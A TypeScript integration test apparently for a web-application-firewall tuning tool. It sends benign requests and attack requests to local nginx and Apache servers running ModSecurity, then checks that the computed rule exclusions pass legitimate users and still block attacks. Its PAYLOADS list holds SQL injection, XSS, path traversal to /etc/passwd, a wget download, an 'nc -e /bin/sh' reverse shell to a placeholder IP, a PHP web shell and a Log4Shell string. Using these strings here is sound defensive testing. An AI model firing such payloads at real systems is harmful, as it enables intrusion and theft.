/**
 * Tuning on real web servers with the rules of Debian: requests are detected, the exclusions are loaded, and all requests are
 * sent again. Also runs the commands of docs/tuning.md.
 */
import { spawn } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { chosenExclusions, exclusionFile, type TuningReport } from '../packages/client/src/index.ts';
import {
  detectingRule,
  isBlocked,
  type MatchedRequest,
  pointsOf,
  type Removal,
} from '../packages/server/src/statistics/anomaly-score.ts';
import { hasTarget, targetVariable } from '../packages/server/src/statistics/exclusion.ts';
import { pathPattern } from '../packages/server/src/statistics/path-pattern.ts';
import { type Api, login } from './api.ts';
import { outputPattern, Page } from './pages.ts';
import { PROGRAM } from './process.ts';
import { Random } from './random.ts';
import { type Installation, Sandbox, type Server } from './sandbox.ts';
import { APACHE, NGINX, startApacheWith, startNginxWith, type WebServer } from './web-server.ts';

const DAYS = 6;
const HOST = 'www.example.com';

interface Sent {
  kind: 'usual' | 'planted' | 'attack';
  source: string;
  /** How many days ago it was sent, according to the log. */
  day: number;
  method: 'GET' | 'POST';
  path: string;
  query: Record<string, string>;
  form?: Record<string, string>;
  headers?: Record<string, string>;
}

/** What users of some site send, and rules match. */
const PLANTED: readonly ((user: number) => Pick<Sent, 'method' | 'path' | 'query' | 'form' | 'headers'>)[] = [
  (user) => ({
    method: 'POST',
    path: '/comment',
    query: {},
    form: { text: `Question ${user}: why does my loop stop for seconds at sleep(5) in line 12?` },
  }),
  (user) => ({
    method: 'GET',
    path: '/search',
    query: { q: `cheap flights; cat pictures and more ${user}` },
  }),
  (user) => ({
    method: 'POST',
    path: `/page/${user}/edit`,
    query: {},
    form: { html: `<p style="color: red" onclick="show(${user})">Hello</p><iframe src="/map"></iframe>` },
  }),
  (user) => ({ method: 'GET', path: '/go', query: { next: `http://10.0.0.${user % 250}/welcome` } }),
  (user) => ({
    method: 'POST',
    path: '/paste',
    query: {},
    form: { code: `<?php echo "snippet ${user}"; ?>` },
  }),
];
const USERS = 12;

const PAYLOADS: readonly string[] = [
  "1' OR '1'='1' -- -",
  '1 UNION SELECT username, password FROM users',
  "1'; DROP TABLE users; --",
  '1 AND sleep(5)#',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  '<svg/onload=alert(1)>',
  '../../../../etc/passwd',
  '/etc/shadow',
  '; wget http://10.1.2.3/x',
  '$(id)',
  '| nc -e /bin/sh 10.1.2.3 4444',
  "<?php system($_GET['c']); ?>",
  'php://input',
  'http://10.1.2.3/shell.txt?',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on Java
  '${jndi:ldap://10.1.2.3/a}',
  'java.lang.Runtime',
  "require('child_process')",
  'x\r\nSet-Cookie: a=b',
];
const PATHS = [
  '/',
  '/login',
  '/item/17',
  '/item/18/reviews',
  '/api/v1/users',
  '/wp-login.php',
  '/.git/config',
];

/** Requests of users, and of attackers that each send payloads of many kinds. */
function requests(): Sent[] {
  const random = new Random(7);
  const all: Sent[] = [];
  for (const [i, plant] of PLANTED.entries())
    for (let user = 0; user < USERS; user++)
      all.push({ kind: 'planted', source: `127.1.${i + 1}.${user + 1}`, day: user % DAYS, ...plant(user) });
  for (let n = 0; n < 740; n++) {
    const attacker = n % 20;
    const query: Record<string, string> = {};
    const headers: Record<string, string> = {};
    const form: Record<string, string> = {};
    const method = random.chance(0.3) ? 'POST' : 'GET';
    for (let part = random.integer(1, 3); part > 0; part--) {
      const payload = random.pick(PAYLOADS);
      const place = random.integer(0, 9);
      if (place < 6) (method === 'POST' ? form : query)[random.pick(['q', 'id', 'file', 'x[]'])] = payload;
      else if (place < 8) query[random.pick(['a', 'page'])] = payload;
      else if (place === 8) headers.Cookie = `session=1; theme=${encodeURIComponent(payload)}`;
      else
        headers['User-Agent'] = random.pick(['Nikto/2.1.5', 'sqlmap/1.8', payload.replace(/[\r\n]/g, ' ')]);
    }
    const planted = PLANTED[random.integer(0, PLANTED.length - 1)]?.(attacker).path ?? '/';
    const path = random.chance(0.2) ? planted : random.pick(PATHS);
    const common = { kind: 'attack' as const, source: `127.2.0.${attacker + 1}`, day: attacker % DAYS };
    all.push({ ...common, method, path, query, headers, ...(method === 'POST' && { form }) });
  }
  // Last: web servers may log a request after its response, and end without having logged it.
  for (let user = 0; user < 200; user++) {
    const query = { q: `word ${user}`, page: String(user) };
    const path = random.pick(['/', '/search', '/comment', '/item/3', '/about']);
    all.push({ kind: 'usual', source: `127.1.9.${user}`, day: user % DAYS, method: 'GET', path, query });
  }
  return all;
}

const REQUESTS = requests();

/** The first ones of all requests, so that their numbers are the same. */
const PLANTED_REQUESTS = REQUESTS.filter(({ kind }) => kind === 'planted');

/** Resolves to the response codes. */
async function sendAll(address: string, requests: readonly Sent[]): Promise<number[]> {
  const statuses: number[] = [];
  for (let start = 0; start < requests.length; start += 10)
    statuses.push(
      ...(await Promise.all(
        requests.slice(start, start + 10).map((sent, i) => send(address, sent, start + i)),
      )),
    );
  return statuses;
}

/** The number of the request is in its query, where the log has it. */
function send(
  address: string,
  { source, method, path, query, form, headers }: Sent,
  n: number,
): Promise<number> {
  const { hostname, port } = new URL(address);
  const body = form && encoded(form);
  return new Promise((resolve, reject) => {
    const outgoing = httpRequest(
      {
        hostname,
        port,
        method,
        path: `${path}?${encoded({ n: String(n), ...query })}`,
        localAddress: source,
        agent: false,
        headers: {
          Host: HOST,
          'User-Agent': 'Mozilla/5.0',
          Accept: '*/*',
          ...(body !== undefined && {
            'Content-Type': 'application/x-www-form-urlencoded',
            'Content-Length': Buffer.byteLength(body),
          }),
          ...headers,
        },
      },
      (response) => response.resume().on('end', () => resolve(response.statusCode ?? 0)),
    );
    outgoing.on('error', reject).end(body);
  });
}

function encoded(values: Record<string, string>): string {
  return Object.entries(values)
    .map((pair) => pair.map(encodeURIComponent).join('='))
    .join('&');
}

/** The JSON audit log as if the requests had been sent over several days. */
function spread(log: string): string {
  const lines = log.split('\n').filter((line) => line.startsWith('{'));
  return lines
    .map((line) => {
      const { transaction, request, ...rest } = JSON.parse(line);
      const target: string = transaction.request?.uri ?? request.request_line;
      const n = Number(/[?&]n=(\d+)/.exec(target)?.[1]);
      const ago = (REQUESTS[n]?.day ?? 0) * 86_400;
      // ModSecurity 3 has the time in the ID, with few other digits; ModSecurity 2 in a field of its own.
      const { unique_id: id } = transaction;
      if (id)
        transaction.unique_id = `${Number(id.slice(0, 10)) - ago}${id.slice(10, 11)}.${String(n).padStart(6, '0')}`;
      if (transaction.time) transaction.time = earlier(transaction.time, ago);
      return `${JSON.stringify({ transaction, request, ...rest })}\n`;
    })
    .join('');
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** `17/Nov/2026:13:28:10.123456 +0000`. */
function earlier(time: string, seconds: number): string {
  const [, day, month = '', year, rest = ''] = /^(\d+)\/(\w+)\/(\d+)(.*)$/.exec(time) ?? [];
  const date = new Date(Date.UTC(Number(year), MONTHS.indexOf(month), Number(day)) - seconds * 1_000);
  const padded = String(date.getUTCDate()).padStart(2, '0');
  return `${padded}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}${rest}`;
}

interface KeptEvent {
  request_line: string;
  url: string;
  rules?: { id: string; variable?: string; severity?: string }[];
  score?: number;
}

function matchedRequest({ rules = [], score }: KeptEvent): MatchedRequest {
  const matches = rules.flatMap(({ id, variable = '', severity = '' }) => {
    const rule = detectingRule(id);
    return rule === 0 ? [] : [{ rule, variable: targetVariable(variable), points: pointsOf(severity) }];
  });
  return { matches, score };
}

/** Whether each request is blocked according to the log and the exclusions. */
function predicted(events: readonly KeptEvent[], exclusions: TuningReport['items']): boolean[] {
  const blocked = REQUESTS.map(() => false);
  for (const event of events) {
    const removed = exclusions
      .filter(({ host, path }) => host === HOST && path === pathPattern(event.url))
      .flatMap(({ rules, variable }) => rules.map((id) => ({ rule: Number(id), variable })));
    const removal = (match: { rule: number; variable: string }): Removal => {
      const ofRule = removed.filter(({ rule }) => rule === match.rule);
      if (ofRule.some(({ rule, variable }) => !hasTarget(rule, variable))) return 'rule';
      return ofRule.some(({ variable }) => variable === match.variable) ? 'target' : 'nothing';
    };
    const [, n] = /[?&]n=(\d+)/.exec(event.request_line) ?? [];
    blocked[Number(n)] = isBlocked(matchedRequest(event), 5, removal);
  }
  return blocked;
}

const sandbox = new Sandbox();
const directory = mkdtempSync(join(tmpdir(), 'wafstat-tuning-'));
const auditLog = join(directory, 'audit.log');
let installation: Installation;
let server: Server;
let projects = 0;

beforeAll(async () => {
  // Web servers run as another user.
  chmodSync(directory, 0o777);
  ({ installation, server } = await sandbox.service());
});

afterAll(async () => {
  await sandbox.clear();
  rmSync(directory, { recursive: true, force: true });
});

async function addProject(): Promise<Api> {
  const { id } = await sandbox.runJson<{ id: string }>('project', 'add', `project-${++projects}`);
  return login(server.address, { ...installation, project_id: id });
}

type Start = (engine: string) => Promise<WebServer>;

/** The response codes of the requests. */
async function statusesOf(
  start: Start,
  settings: string,
  requests: readonly Sent[] = REQUESTS,
): Promise<number[]> {
  rmSync(auditLog, { force: true });
  const engine = `SecAuditLog ${auditLog}\nSecAuditLogFormat JSON\n${settings}\n`;
  const webServer = await start(engine);
  try {
    return await sendAll(webServer.address, requests);
  } finally {
    await webServer.stop();
  }
}

/** Sends all requests to a server that only detects, and returns the path of its log. */
async function detect(start: Start): Promise<string> {
  const detected = await statusesOf(start, 'SecRuleEngine DetectionOnly');
  expect(detected).not.toContain(403);
  return sandbox.write('audit.log', spread(readFileSync(auditLog, 'utf8')));
}

async function expectTuned(start: Start, log: string): Promise<void> {
  const api = await addProject();
  await sandbox.run(['ingest', '--data', sandbox.data, '--project', api.project, log]);
  const range = `from=${Date.now() - 7 * 86_400_000}&to=${Date.now() + 1_000}`;
  const report = await api.getJson<TuningReport>(`waf/tuning?${range}`);
  const events: KeptEvent[] = [];
  for (let page = 1; events.length === 1_000 * (page - 1); page++)
    events.push(
      ...(await api.getJson<{ items: KeptEvent[] }>(`waf/event?${range}&page=${page}&pagesize=1000`)).items,
    );

  const chosen = chosenExclusions(report);
  const planted = PLANTED.map((plant) => pathPattern(plant(1).path));
  expect(
    new Set(
      report.items
        .slice(0, 10)
        .filter(({ likely }) => likely === 'false_positive')
        .map(({ path }) => path),
    ),
  ).toEqual(new Set(planted));
  expect(new Set(chosen.map(({ path }) => path))).toEqual(new Set(planted));

  const before = await statusesOf(start, 'SecRuleEngine On');
  const file = join(directory, 'exclusions.conf');
  writeFileSync(file, exclusionFile(chosen));
  const after = await statusesOf(start, `SecRuleEngine On\nInclude ${file}`);

  const describeAll = (indexes: readonly number[]) => indexes.map((n) => JSON.stringify(REQUESTS[n]));
  const indexes = [...REQUESTS.keys()];
  const ofKind = (kind: Sent['kind']) => indexes.filter((n) => REQUESTS[n]?.kind === kind);
  expect(ofKind('planted').every((n) => before[n] === 403)).toBe(true);
  expect(describeAll(ofKind('planted').filter((n) => after[n] === 403))).toEqual([]);
  expect(ofKind('attack').filter((n) => before[n] === 403).length).toBeGreaterThan(500);
  expect(describeAll(ofKind('attack').filter((n) => before[n] === 403 && after[n] !== 403))).toEqual([]);

  /** The requests whose verdict was predicted, and wrongly. */
  const mismatches = (exclusions: TuningReport['items'], statuses: readonly number[]) => {
    const blocked = predicted(events, exclusions);
    return indexes.filter((n) => blocked[n] !== (statuses[n] === 403));
  };
  // At most one of a thousand.
  expect(REQUESTS).toHaveLength(1_000);
  expect(describeAll(mismatches([], before)).slice(1)).toEqual([]);
  expect(describeAll(mismatches(chosen, after)).slice(1)).toEqual([]);
}

const startNginx: Start = (engine) => startNginxWith('access_log off;', engine);
const startApache: Start = (engine) => startApacheWith(engine);

describe.skipIf(!NGINX.isInstalled() && process.env.CI !== 'true')(
  `nginx with ModSecurity 3 (needs: ${NGINX.needs})`,
  () => {
    let log: string;
    beforeAll(async () => {
      log = await detect(startNginx);
    });

    test('passes users and blocks attackers with the exclusions, as predicted', () =>
      expectTuned(startNginx, log));

    test('the commands of docs/tuning.md lead from detection to blocking', async () => {
      const page = new Page('docs/tuning.md');
      expect(page.fenceLines).toBe(2 * page.fences.length);
      expect(page.fences.filter(({ language, kind }) => language === 'sh' && kind !== 'run')).toEqual([]);
      mkdirSync(sandbox.path('bin'));
      chmodSync(sandbox.write('bin/npx', `#!/bin/sh\nshift\nexec ${PROGRAM} "$@"\n`), 0o755);
      const { token } = await login(server.address, installation);
      for (const { code, name } of page.ofKind('run')) {
        const child = spawn('/bin/sh', ['-eu'], {
          cwd: sandbox.directory,
          env: {
            PATH: `${sandbox.path('bin')}:${process.env.PATH}`,
            WAFSTAT_URL: server.address,
            WAFSTAT_PROJECT: installation.project_id,
            WAFSTAT_TOKEN: token,
          },
        });
        const ended = new Promise<number | null>((resolve) => child.once('close', resolve));
        child.stdin.end(code.replaceAll('/var/log/modsec_audit.log', log));
        const [out, err, status] = await Promise.all([text(child.stdout), text(child.stderr), ended]);
        expect({ name, status, err }).toMatchObject({ name, status: 0 });
        const documented = page.ofKind('output').find((fence) => fence.name === name);
        if (documented) expect(out.trimEnd()).toMatch(outputPattern(documented.code));
      }
      const file = sandbox.path('exclusions.conf');
      expect(readFileSync(file, 'utf8')).toContain('ctl:ruleRemoveTargetById=');
      const after = await statusesOf(startNginx, `SecRuleEngine On\nInclude ${file}`, PLANTED_REQUESTS);
      expect(after).not.toContain(403);
    });
  },
);

describe.skipIf(!APACHE.isInstalled() && process.env.CI !== 'true')(
  `Apache with mod_security2 (needs: ${APACHE.needs})`,
  () => {
    test('passes users and blocks attackers with the exclusions, as predicted', async () =>
      expectTuned(startApache, await detect(startApache)));
  },
);
